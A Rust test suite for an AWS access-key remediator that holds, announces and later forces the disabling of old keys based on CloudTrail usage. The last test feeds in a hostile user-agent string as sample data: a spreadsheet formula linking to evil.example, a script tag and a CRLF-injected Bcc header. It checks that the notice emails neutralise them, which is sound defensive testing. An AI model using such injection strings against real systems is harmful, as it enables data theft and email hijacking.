//! Where keys are used, and the disable that knows it, against the rig (its CloudTrail records
//! each call made with a user's key): a pipeline that keeps using the old key holds the old
//! key's disable, told to the owner each day with where the key is used, until the cap releases
//! it; a pipeline that switched lets the disable happen on time; a step first seen already due
//! waits its minimum notice; hostile user agents stay text.

use chrono::{DateTime, Duration, Utc};
use keyguard_core::Settings;
use remediator::{ActionKind, Outcome, Remediator};
use serde_json::Value;

use crate::remediator::{keys_of, member_account, remediator, scheduled_run, spec};
use crate::support::{seed, KeyCalls, Org, Rig};

const PIPELINE_IP: &str = "203.0.113.7";
const PIPELINE_AGENT: &str = "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64.amzn.2023";

/// The remediator with the policy's defaults for the hold and the minimum notice.
async fn with_defaults(org: &Org) -> Remediator {
    let mut r = remediator(org, false).await;
    r.settings = Settings {
        dry_run: false,
        ..Settings::default()
    };
    r
}

fn outcomes(report: &remediator::AccountReport, user: &str) -> Vec<(ActionKind, Outcome)> {
    report
        .actions
        .iter()
        .filter(|a| a.user == user)
        .map(|a| (a.action, a.outcome))
        .collect()
}

/// The text of the emails sent from the central account to `to` since `skip`.
fn mail_to(org: &Org, to: &str, skip: usize) -> Vec<String> {
    Rig::get()
        .emails(&org.management)
        .iter()
        .skip(skip)
        .filter(|m| {
            m["to"]
                .as_array()
                .is_some_and(|t| t.iter().any(|a| a == to))
        })
        .map(|m| m.to_string())
        .collect()
}

/// The pipeline's calls with `key` in the hours before `at`, as CloudTrail recorded them.
fn pipeline_calls(org: &Org, account: &str, key: &str, at: DateTime<Utc>) {
    let _ = org;
    Rig::get().key_calls(
        account,
        key,
        KeyCalls {
            count: 41,
            start: at - Duration::hours(6),
            step_s: 300,
            source_ip: PIPELINE_IP,
            user_agent: PIPELINE_AGENT,
            service: "ec2",
            region: "us-east-1",
        },
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_pipeline_that_keeps_using_the_old_key_holds_the_disable_until_the_cap() {
    let rig = Rig::get();
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    let mut ci = spec("ci", vec![(120, Some(0), true)]);
    ci.tags = vec![("owner-email".into(), "ci-team@example.com".into())];
    let seeded = seed(&cfg, &member, &[ci], t0).await;
    let old = seeded["ci"].keys[0].clone();
    let r = with_defaults(&org).await;

    // Day 0: rotated; the owner is told of the disable to come.
    let report = scheduled_run(&r, member_account(&org, 0), t0).await;
    assert!(
        outcomes(&report, "ci").contains(&(ActionKind::Rotate, Outcome::Done)),
        "{report:#?}"
    );
    let new = keys_of(&cfg).await["ci"]
        .iter()
        .find(|k| k.0 != old)
        .unwrap()
        .0
        .clone();

    // Day 10, the disable's day: the pipeline still uses the old key, nothing the new one.
    let day10 = t0 + Duration::days(10) + Duration::hours(1);
    rig.use_key(&member, &old, day10 - Duration::hours(2));
    pipeline_calls(&org, &member, &old, day10);
    let mails = rig.emails(&org.management).len();
    let report = scheduled_run(&r, member_account(&org, 0), day10).await;
    assert_eq!(
        outcomes(&report, "ci"),
        vec![(ActionKind::Disable, Outcome::Held)],
        "{report:#?}"
    );
    let held = &report.actions[0];
    assert!(held.why.contains("migration stalled"), "{}", held.why);
    assert!(
        held.why.contains(&day(t0 + Duration::days(24))),
        "the cap: {}",
        held.why
    );
    let usage = held.usage.as_deref().unwrap_or_default();
    assert!(
        usage.contains(PIPELINE_IP)
            && usage.contains("aws-cli/2.15.0 via ec2")
            && usage.contains("41 calls"),
        "{usage}"
    );
    assert!(
        keys_of(&cfg).await["ci"].iter().all(|k| k.1),
        "both keys still Active"
    );
    // The owner is told, with where the old key is used, and so is the admin.
    let to_owner = mail_to(&org, "ci-team@example.com", mails);
    assert_eq!(to_owner.len(), 1, "{to_owner:#?}");
    assert!(
        to_owner[0].contains("Migration stalled") && to_owner[0].contains(PIPELINE_IP),
        "{}",
        to_owner[0]
    );
    assert!(mail_to(&org, "cloud-admins@example.com", mails)
        .iter()
        .any(|m| m.contains("held") && m.contains(PIPELINE_IP)));

    // Each held day: told again.
    let day12 = day10 + Duration::days(2);
    rig.use_key(&member, &old, day12 - Duration::hours(1));
    let mails = rig.emails(&org.management).len();
    let report = scheduled_run(&r, member_account(&org, 0), day12).await;
    assert_eq!(
        outcomes(&report, "ci"),
        vec![(ActionKind::Disable, Outcome::Held)]
    );
    assert_eq!(mail_to(&org, "ci-team@example.com", mails).len(), 1);

    // Past MaxDisableHoldDays (14 after the day it was due): disabled whatever the use.
    let day24 = t0 + Duration::days(24) + Duration::hours(2);
    rig.use_key(&member, &old, day24 - Duration::hours(1));
    let report = scheduled_run(&r, member_account(&org, 0), day24).await;
    assert_eq!(
        outcomes(&report, "ci"),
        vec![(ActionKind::Disable, Outcome::Done)],
        "{report:#?}"
    );
    let keys = &keys_of(&cfg).await["ci"];
    assert!(keys.iter().any(|k| k.0 == old && !k.1) && keys.iter().any(|k| k.0 == new && k.1));
}

fn day(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%d").to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_pipeline_that_switched_lets_the_disable_happen_on_time() {
    let rig = Rig::get();
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    let seeded = seed(&cfg, &member, &[spec("ci", vec![(120, Some(0), true)])], t0).await;
    let old = seeded["ci"].keys[0].clone();
    let r = with_defaults(&org).await;
    scheduled_run(&r, member_account(&org, 0), t0).await;
    let new = keys_of(&cfg).await["ci"]
        .iter()
        .find(|k| k.0 != old)
        .unwrap()
        .0
        .clone();
    // The pipeline moved to the new key (the old one was used this morning still).
    let day10 = t0 + Duration::days(10) + Duration::hours(1);
    rig.use_key(&member, &old, day10 - Duration::hours(5));
    rig.use_key(&member, &new, day10 - Duration::hours(3));
    let report = scheduled_run(&r, member_account(&org, 0), day10).await;
    assert_eq!(
        outcomes(&report, "ci"),
        vec![(ActionKind::Disable, Outcome::Done)],
        "{report:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_unused_keys_disable_is_never_held() {
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    // An old key unused for 60 days beside a newer key never used: the old key's disable is
    // for non-use (CIS 1.12), never held; told first (the minimum notice), then done.
    seed(
        &cfg,
        &member,
        &[spec(
            "vendor",
            vec![(200, Some(60), true), (30, None, true)],
        )],
        t0,
    )
    .await;
    let r = with_defaults(&org).await;
    let first = scheduled_run(&r, member_account(&org, 0), t0).await;
    assert!(
        !first.actions.iter().any(|a| a.outcome == Outcome::Held),
        "{first:#?}"
    );
    let later = scheduled_run(&r, member_account(&org, 0), t0 + Duration::days(3)).await;
    assert!(
        later
            .actions
            .iter()
            .any(|a| a.action == ActionKind::Disable && a.outcome == Outcome::Done),
        "{later:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_step_first_seen_already_due_waits_its_minimum_notice() {
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    let mut idle = spec("idle", vec![(100, Some(60), true)]);
    idle.tags = vec![("owner-email".into(), "idle-team@example.com".into())];
    seed(&cfg, &member, &[idle], t0).await;
    let r = with_defaults(&org).await;

    // The first enforcing run that sees the disable (a new account, DryRun just off): the owner
    // is told now, with the date it happens; nothing is written to the key.
    let mails = Rig::get().emails(&org.management).len();
    let first = scheduled_run(&r, member_account(&org, 0), t0).await;
    assert_eq!(
        outcomes(&first, "idle"),
        vec![(
            ActionKind::Warn(keyguard_core::Step::Disable),
            Outcome::Warned
        )],
        "{first:#?}"
    );
    assert!(
        first.actions[0].why.contains(&day(t0 + Duration::days(3))),
        "{}",
        first.actions[0].why
    );
    let told = mail_to(&org, "idle-team@example.com", mails);
    assert!(
        told.len() == 1 && told[0].contains("no earlier than"),
        "{told:#?}"
    );
    // Two days later: still waiting, and not told again.
    let mails = Rig::get().emails(&org.management).len();
    let second = scheduled_run(&r, member_account(&org, 0), t0 + Duration::days(2)).await;
    assert_eq!(
        outcomes(&second, "idle"),
        vec![(ActionKind::Disable, Outcome::Skipped)],
        "{second:#?}"
    );
    assert!(mail_to(&org, "idle-team@example.com", mails).is_empty());
    assert!(keys_of(&cfg).await["idle"][0].1, "still Active");
    // Three days after the first notice: done.
    let third = scheduled_run(&r, member_account(&org, 0), t0 + Duration::days(3)).await;
    assert_eq!(
        outcomes(&third, "idle"),
        vec![(ActionKind::Disable, Outcome::Done)],
        "{third:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_dry_run_preview_is_the_notice_that_enforcement_counts_from() {
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    seed(
        &cfg,
        &member,
        &[spec("idle", vec![(100, Some(60), true)])],
        t0,
    )
    .await;
    let mut r = with_defaults(&org).await;
    r.settings.dry_run = true;
    let preview = scheduled_run(&r, member_account(&org, 0), t0).await;
    assert_eq!(
        outcomes(&preview, "idle"),
        vec![(ActionKind::Disable, Outcome::Preview)]
    );
    // DryRun switched off three days later: the owner had the preview; the disable happens.
    r.settings.dry_run = false;
    let enforced = scheduled_run(&r, member_account(&org, 0), t0 + Duration::days(3)).await;
    assert_eq!(
        outcomes(&enforced, "idle"),
        vec![(ActionKind::Disable, Outcome::Done)],
        "{enforced:#?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_hostile_user_agent_stays_text_in_every_notice() {
    let rig = Rig::get();
    let org = Org::new(1).await;
    let member = org.members[0].clone();
    let cfg = org.member(0).await;
    let t0 = Utc::now();
    let mut idle = spec("idle", vec![(100, Some(60), true)]);
    idle.tags = vec![("owner-email".into(), "idle-team@example.com".into())];
    let seeded = seed(&cfg, &member, &[idle], t0).await;
    let agent = format!(
        "=HYPERLINK(\"http://evil.example/?\"&A1)<script>alert(1)</script>\r\nBcc: x@evil.example {}",
        "A".repeat(300)
    );
    rig.key_calls(
        &member,
        &seeded["idle"].keys[0],
        KeyCalls {
            count: 3,
            start: t0 - Duration::hours(3),
            step_s: 60,
            source_ip: "198.51.100.66",
            user_agent: &agent,
            service: "s3",
            region: "us-east-1",
        },
    );
    let r = with_defaults(&org).await;
    let mails = rig.emails(&org.management).len();
    scheduled_run(&r, member_account(&org, 0), t0).await;
    let sent: Vec<Value> = rig
        .emails(&org.management)
        .into_iter()
        .skip(mails)
        .collect();
    assert!(!sent.is_empty());
    let mut described = false;
    for m in &sent {
        let html = m["html"].as_str().unwrap_or_default();
        let text = m["text"].as_str().unwrap_or_default();
        described |= text.contains("198.51.100.66");
        assert!(!html.contains("<script>"), "markup escaped: {html}");
        assert!(
            !text.contains(&"A".repeat(200)) && !html.contains(&"A".repeat(200)),
            "cut: {text}"
        );
        assert!(!text.contains("\r\nBcc:"), "one line: {text}");
        assert!(!m["subject"]
            .as_str()
            .unwrap_or_default()
            .contains("HYPERLINK"));
        for field in ["to", "cc", "bcc"] {
            assert!(
                m[field]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .all(|a| !a.as_str().unwrap_or_default().contains("evil")),
                "no recipient from the agent: {m}"
            );
        }
    }
    assert!(
        described,
        "the notice says where the key is used: {sent:#?}"
    );
}
